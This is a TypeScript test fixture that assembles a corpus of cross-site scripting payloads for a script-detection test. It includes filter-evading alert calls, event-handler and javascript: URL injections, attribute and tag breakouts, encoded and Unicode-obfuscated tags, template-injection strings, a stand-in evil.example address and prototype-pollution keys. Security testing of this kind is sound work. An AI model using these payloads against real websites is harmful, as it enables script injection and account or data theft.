/**
 * Texts that would run as script somewhere else (T15): in HTML, in attributes, in addresses, in styles, in templates, and
 * through what parsers repair. Each calls `alert`, which `script-watch.ts` counts. Every one fits into a name.
 */

/** What runs, in forms that filters miss. */
const calls = [
  'alert(1)',
  'alert`1`',
  'top.alert(1)',
  "window['al'+'ert'](1)",
  'eval("alert(1)")',
  'setTimeout("alert(1)")',
];

/** Elements that run something by themselves; `$` stands for the call. */
const elements = [
  '<script>$</script>',
  '<ScRiPt>$</sCrIpT>',
  '<script\n>$</script\n>',
  '<script src="data:text/javascript,$"></script>',
  '<img src=x onerror=$>',
  '<img src=x onerror="$">',
  '<IMG SRC=x OnErRoR=$ //',
  '<img/src=x/onerror=$>',
  '<svg onload=$>',
  '<svg/onload=$>',
  '<svg><script>$</script></svg>',
  '<svg><animate onbegin=$ attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:$"><text y=20>x</text></a></svg>',
  '<math><mtext></mtext><mglyph><style><img src=x onerror=$></style></mglyph></math>',
  '<body onload=$>',
  '<video><source onerror=$></video>',
  '<audio src=x onerror=$>',
  '<input autofocus onfocus=$>',
  '<details open ontoggle=$>',
  '<marquee onstart=$>x</marquee>',
  '<iframe src="javascript:$"></iframe>',
  '<iframe srcdoc="<script>parent.$</script>"></iframe>',
  '<object data="javascript:$"></object>',
  '<embed src="javascript:$">',
  '<form action="javascript:$"><button>x</button></form>',
  '<meta http-equiv="refresh" content="0;url=javascript:$">',
  '<base href="javascript:$//">',
  '<a href="javascript:$">x</a>',
  '<a href="&#106;avascript:$">x</a>',
  '<style>@import "javascript:$";</style>',
  '<link rel=stylesheet href="javascript:$">',
  '<div style="background:url(javascript:$)">x</div>',
  '<x onpointerover=$ style="position:fixed;inset:0">x</x>',
  '<template><script>$</script></template>',
];

/** Ways out of what a text may have been put into. */
const breakouts = [
  '"><img src=x onerror=$>',
  "'><img src=x onerror=$>",
  '" onfocus="$" autofocus x="',
  "' onfocus='$' autofocus x='",
  '</textarea><img src=x onerror=$>',
  '</title><img src=x onerror=$>',
  '</style><img src=x onerror=$>',
  '</script><script>$</script>',
  '--><img src=x onerror=$>',
  ']]><img src=x onerror=$>',
  '`;$;`',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the payload is a template
  '${$}',
  "';$;//",
  '";$;//',
  '\\";$;//',
  '*/$/*',
];

const addresses = [
  'javascript:$',
  'JaVaScRiPt:$',
  ' javascript:$',
  'java\tscript:$',
  'javascript://%0a$',
  'data:text/html,<script>$</script>',
  'data:image/svg+xml,<svg onload=$>',
  'vbscript:$',
  'blob:$',
  '//evil.example/$',
];

const templates = [
  '{{constructor.constructor("$")()}}',
  '{{$}}',
  '<%= $ %>',
  '#{$}',
  '[[$]]',
  '{"__html":"<img src=x onerror=$>"}',
  '{"type":"script","props":{"children":"$"}}',
  '__proto__[onload]=$',
];

/** What parsers decode, repair or overlook. */
const encoded = [
  '&lt;script&gt;$&lt;/script&gt;',
  '%3Cscript%3E$%3C/script%3E',
  '\\u003cscript\\u003e$\\u003c/script\\u003e',
  '<scr<script>ipt>$</scr</script>ipt>',
  '<img src=x onerror=\u2028$>',
  '\ufeff<script>$</script>',
  '<\u200bscript>$</script>',
  '\u202e<script>$</script>',
  '＜script＞$＜/script＞',
  '<noscript><p title="</noscript><img src=x onerror=$>">',
];

/** No script, but keys and words that code trips over (T14). */
const words = [
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  'undefined',
  'null',
  'NaN',
  'true',
  '[object Object]',
];

const combine = (forms: readonly string[], some: readonly string[]): string[] =>
  forms.flatMap((form) => some.map((call) => form.replaceAll('$', () => call)));

const [plain = '', quoteless = '', throughTop = '', ...others] = calls;

export const scriptPayloads: readonly string[] = [
  ...combine(elements, [plain, quoteless, throughTop]),
  ...combine(elements.slice(0, 4), others),
  ...combine(breakouts, [plain, quoteless]),
  ...combine(addresses, [plain, throughTop]),
  ...combine(templates, [plain]),
  ...combine(encoded, [plain, quoteless]),
  ...words,
];
